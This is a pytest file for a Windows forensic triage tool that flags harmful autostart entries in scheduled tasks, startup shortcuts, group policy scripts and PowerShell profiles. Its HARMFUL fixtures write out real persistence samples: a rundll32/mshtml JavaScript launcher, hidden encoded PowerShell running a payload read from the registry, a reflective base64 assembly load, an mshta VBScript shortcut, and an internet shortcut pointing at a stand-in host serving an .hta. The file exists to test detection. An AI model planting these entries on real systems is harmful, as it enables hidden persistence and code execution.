# ruff: noqa: E501 - a row of the tables is one line
"""Tasks, startup folders, shortcuts, scripts of policy and profiles: harmful ones and ordinary."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from tests.content.payloads import pe
from tests.registry.lines import encoded
from tests.registry.seeds import USER_PATH, Plant, hive
from tests.registry.startup_trees import (
    PROFILE,
    STARTUP,
    TASKS,
    cached,
    lnk,
    seen,
    software,
    write,
    xml,
)
from triage.analyze import analyze
from triage.model import Report, Severity, Snapshot, Why
from triage.model.windows import AutostartItem

_JS = r'javascript:"\..\mshtml,RunHTMLApplication ";alert(1)'
_READS = r"IEX (gp HKCU:\Software\Qq).w"
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


def judged(snapshot: Snapshot) -> dict[str, set[str]]:
    """By key (file or key of the hive): the indicators."""
    found: dict[str, set[str]] = {}
    for subject in analyze(snapshot).subjects:
        key = str(dict(subject.facts)["key"])
        found.setdefault(key, set()).update(f.indicator for f in subject.findings)
    return found


def worst(report: Report) -> Severity:
    return max((s.severity for s in report.subjects), key=lambda s: s.points, default=Severity.INFO)


HARMFUL = {
    "a task": ({f"{TASKS}/Job": xml("rundll32.exe", _JS)}, "autostart-code"),
    "a task with a program of Windows": (
        {f"{TASKS}/Microsoft/Windows/X/Job": xml(_POWERSHELL, f"-nop -w hidden -enc {encoded(_READS)}")},
        "autostart-loader",
    ),
    "a task of 32 bits": ({"Windows/SysWOW64/Tasks/Job": xml("rundll32.exe", _JS)}, "autostart-code"),
    "a shortcut": ({f"{STARTUP}/a.lnk": lnk(_POWERSHELL, f"-w hidden -c {_READS}")}, "autostart-loader"),
    "a shortcut on the desktop": (
        {"Users/bob/Desktop/Chrome.lnk": lnk(r"C:\Windows\System32\mshta.exe", "vbscript:Execute(1)")},
        "autostart-code",
    ),
    "a script": ({f"{STARTUP}/a.vbs": b'CreateObject("WScript.Shell").Run "powershell -enc '
                  + encoded(_READS).encode() + b'", 0'}, None),
    "a profile": ({PROFILE: _READS.encode()}, "autostart-loader"),
    "a profile of the machine": (
        {"Windows/System32/WindowsPowerShell/v1.0/profile.ps1":
         b"[Reflection.Assembly]::Load([Convert]::FromBase64String($x))"}, "autostart-code"),
    "a script of group policy": (
        {"Windows/System32/GroupPolicy/Machine/Scripts/scripts.ini":
         b"\xff\xfe" + f"[Startup]\r\n0CmdLine=rundll32.exe\r\n0Parameters={_JS}\r\n".encode("utf-16-le")},
        "autostart-code",
    ),
    "an address": ({f"{STARTUP}/a.url": b"[InternetShortcut]\r\nURL=file://evil.example.com@80/share/a.hta\r\n"}, None),
}  # fmt: skip


@pytest.mark.parametrize("name", HARMFUL)
def test_what_harms_is_told(name: str, tmp_path: Path) -> None:
    files, indicator = HARMFUL[name]
    snapshot = seen(write(tmp_path, files))
    report = analyze(snapshot)
    assert report.subjects
    assert {"a script": True, "an address": True}.get(name) or (
        worst(report).points >= Severity.HIGH.points
    )
    if indicator is not None:
        assert indicator in {f.indicator for s in report.subjects for f in s.findings}


ORDINARY = {
    "tasks": {
        f"{TASKS}/Microsoft/Windows/Defrag/ScheduledDefrag": xml(r"%windir%\system32\defrag.exe", "-c -h -o"),
        f"{TASKS}/GoogleUpdateTaskMachineCore": xml(
            r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", "/c"),
        f"{TASKS}/OneDrive Standalone Update Task": xml(
            r"%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe"),
        f"{TASKS}/Backup": xml("powershell.exe", r"-NoProfile -File C:\Scripts\backup.ps1"),
    },
    "shortcuts": {
        f"{STARTUP}/Send to OneNote.lnk": lnk(
            r"C:\Program Files\Microsoft Office\root\Office16\ONENOTEM.EXE", "/tsr"),
        "Users/bob/Desktop/Google Chrome.lnk": lnk(
            r"C:\Program Files\Google\Chrome\Application\chrome.exe", '--profile-directory="Default"'),
        "Users/bob/Desktop/Prompt.lnk": lnk(r"C:\Windows\System32\cmd.exe", r"/k cd C:\work"),
        f"{STARTUP}/desktop.ini": b"[.ShellClassInfo]\r\n",
    },
    "profiles": {
        PROFILE: b"Import-Module posh-git\nInvoke-Expression (&starship init powershell)\n"
                 b"function ll { Get-ChildItem -Force }\n$env:PATH += ';C:\\tools'\n",
        "Users/bob/Documents/PowerShell/profile.ps1":
            b"oh-my-posh init pwsh --config ~/theme.json | Invoke-Expression\nSet-Alias g git\n",
    },
    "group policy": {
        "Windows/System32/GroupPolicy/Machine/Scripts/scripts.ini":
            b"\xff\xfe" + "[Startup]\r\n0CmdLine=map.bat\r\n0Parameters=\r\n".encode("utf-16-le")},
}  # fmt: skip


@pytest.mark.parametrize("name", ORDINARY)
def test_what_is_ordinary_is_not(name: str, tmp_path: Path) -> None:
    report = analyze(seen(write(tmp_path, ORDINARY[name])))
    assert worst(report).points <= Severity.LOW.points, [s.title for s in report.subjects]
    assert not report.gaps


# --- files against the task cache -----------------------------------------------------------


def _others(count: int = 8) -> tuple[dict[str, bytes], list[Plant]]:
    """Tasks that files and cache tell alike."""
    files, plants = {}, []
    for number in range(count):
        command = rf"C:\Program Files\Vendor {number}\update.exe"
        files[f"{TASKS}/Vendor/Update{number}"] = xml(command, "/quiet")
        plants += cached(f"Vendor\\Update{number}", command, "/quiet")
    return files, plants


def test_tasks_that_agree_are_silent(tmp_path: Path) -> None:
    files, plants = _others()
    assert judged(seen(write(tmp_path, {**files, **software(plants)}))) == {}


def test_a_task_without_a_file_is_told(tmp_path: Path) -> None:
    files, plants = _others()
    plants += cached("Ghost", r"C:\Users\Public\a.exe")
    snapshot = seen(write(tmp_path, {**files, **software(plants)}))
    (found,) = [
        a for a in snapshot.artifacts if isinstance(a, AutostartItem) and "no-file" in a.traits
    ]
    assert found.command == r"C:\Users\Public\a.exe"
    assert "autostart-hidden" in judged(snapshot)[found.key]


def test_a_folder_that_is_not_whole_is_a_gap(tmp_path: Path) -> None:
    files, plants = _others()
    for number in range(8):
        plants += cached(f"Gone{number}", r"C:\Program Files\Vendor\a.exe")
    snapshot = seen(write(tmp_path, {**files, **software(plants)}))
    assert [gap.why for gap in snapshot.gaps] == [Why.ABSENT]
    assert judged(snapshot) == {}


def test_a_file_that_tells_another_command_is_told(tmp_path: Path) -> None:
    files, plants = _others()
    files[f"{TASKS}/Job"] = xml(r"C:\Program Files\Vendor\a.exe")
    plants += cached("Job", r"C:\ProgramData\b.exe")
    report = analyze(seen(write(tmp_path, {**files, **software(plants)})))
    assert "another command" in str([f.evidence for s in report.subjects for f in s.findings])
    assert worst(report).points >= Severity.MEDIUM.points


def test_a_file_that_the_cache_does_not_know_is_weak(tmp_path: Path) -> None:
    files, plants = _others()
    files[f"{TASKS}/Old"] = xml(r"C:\Program Files\Vendor\a.exe")
    report = analyze(seen(write(tmp_path, {**files, **software(plants)})))
    assert worst(report) is Severity.LOW


def test_a_task_without_a_descriptor_is_told(tmp_path: Path) -> None:
    files, plants = _others()
    files[f"{TASKS}/Job"] = xml(r"C:\Program Files\Vendor\a.exe")
    plants += cached("Job", r"C:\Program Files\Vendor\a.exe", descriptor=False)
    report = analyze(seen(write(tmp_path, {**files, **software(plants)})))
    assert "no security descriptor" in str(
        [f.evidence for s in report.subjects for f in s.findings]
    )


def test_what_a_file_reads_of_the_registry_is_told_and_linked(tmp_path: Path) -> None:
    user = hive(USER_PATH, [Plant("Software\\Qq", "w", pe(random.Random(3)))])
    files = {f"{TASKS}/Job": xml(_POWERSHELL, f"-w hidden -c {_READS}"), USER_PATH: user}
    report = analyze(seen(write(tmp_path, files)))
    stores = [s for s in report.subjects if "Software\\Qq" in s.title]
    assert stores
    assert stores[0].links
    plain = hive(USER_PATH, [Plant("Software\\Qq", "w", "ordinary words " * 20)])
    named = seen(write(tmp_path, {USER_PATH: plain}))
    assert any("run-by-a-loader" in getattr(a, "traits", ()) for a in named.artifacts)


def test_a_program_behind_a_shortcut_is_found(tmp_path: Path) -> None:
    files = {f"{STARTUP}/a.lnk": lnk(r"C:\Program Files\V\a.exe", "", pe(random.Random(2)))}
    (found,) = seen(write(tmp_path, files)).artifacts
    assert isinstance(found, AutostartItem)
    assert found.content is not None


@pytest.mark.parametrize("data", [
    b"\xff\xfe<", b"<Task>", b"<!DOCTYPE a [<!ENTITY b 'c'>]><Task/>", b"<a/>", b"MZ", b"\0\1" * 40,
    b"<Task>" + b"<a>" * 50_000,
])  # fmt: skip
def test_what_is_no_task_is_a_gap(data: bytes, tmp_path: Path) -> None:
    snapshot = seen(write(tmp_path, {f"{TASKS}/Job": data}))
    assert [gap.why for gap in snapshot.gaps] == [Why.MALFORMED]


def test_a_damaged_shortcut_is_a_gap_or_nothing(tmp_path: Path) -> None:
    whole = lnk(_POWERSHELL, "-enc x")
    rng = random.Random(5)
    files = {}
    for number in range(120):
        data = bytearray(whole[: rng.randrange(1, len(whole))] if number % 2 else whole)
        for _ in range(4):
            data[rng.randrange(len(data))] = rng.randrange(256)
        files[f"{STARTUP}/{number}.lnk"] = bytes(data)
    snapshot = seen(write(tmp_path, files))
    assert {gap.why for gap in snapshot.gaps} <= {Why.MALFORMED}


def test_a_task_is_told_once(tmp_path: Path) -> None:
    files, plants = _others()
    plants += cached(
        "Ghost", r"C:\Windows\System32\cmd.exe", f"/c powershell -w hidden -c {_READS}"
    )
    found = seen(write(tmp_path, {**files, **software(plants)})).artifacts
    assert len([a for a in found if isinstance(a, AutostartItem)]) == 1
    hidden = cached("Gone", "rundll32.exe", _JS, descriptor=False)
    found = seen(write(tmp_path, software([*plants, *hidden]))).artifacts
    traits = [a.traits for a in found if isinstance(a, AutostartItem) and "rundll32" in a.command]
    assert any("no-descriptor" in one for one in traits)  # what only the cache knows is kept
    assert any("no-file" in one for one in traits)
